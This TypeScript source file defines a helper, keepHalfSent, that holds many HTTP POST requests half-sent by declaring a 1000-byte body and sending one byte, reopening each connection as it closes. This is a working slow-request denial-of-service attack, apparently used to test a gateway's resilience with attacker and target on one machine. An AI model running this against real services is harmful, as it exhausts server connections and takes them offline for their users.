import { connect, type Socket } from 'node:net';

/** A request whose body never arrives. */
type HalfRequest = {
  readonly url: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
};

/**
 * Keeps this many requests half-sent: an answered or closed request is replaced.
 *
 * @example
 * using halves = keepHalfSent({ url: gateway.url, path: '/access-control/check-roles', headers }, 300);
 */
export function keepHalfSent(request: HalfRequest, count: number): Disposable {
  const { hostname, port, host } = new URL(request.url);
  const lines = Object.entries({ host, ...request.headers, 'content-length': '1000' });
  const head = `POST ${request.path} HTTP/1.1\r\n${lines.map((line) => line.join(': ')).join('\r\n')}\r\n\r\n{`;
  const sockets = new Set<Socket>();
  let isEnded = false;
  const begin = (): void => {
    if (isEnded) return;
    const socket = connect(Number(port), hostname, () => socket.write(head));
    sockets.add(socket);
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => {
      sockets.delete(socket);
      setTimeout(begin, AGAIN_MS);
    });
  };
  for (let i = 0; i < count; i += 1) begin();
  return {
    [Symbol.dispose]() {
      isEnded = true;
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** Attacker and target share one machine: without a pause the attacker would run out of CPU. */
const AGAIN_MS = 2_000;
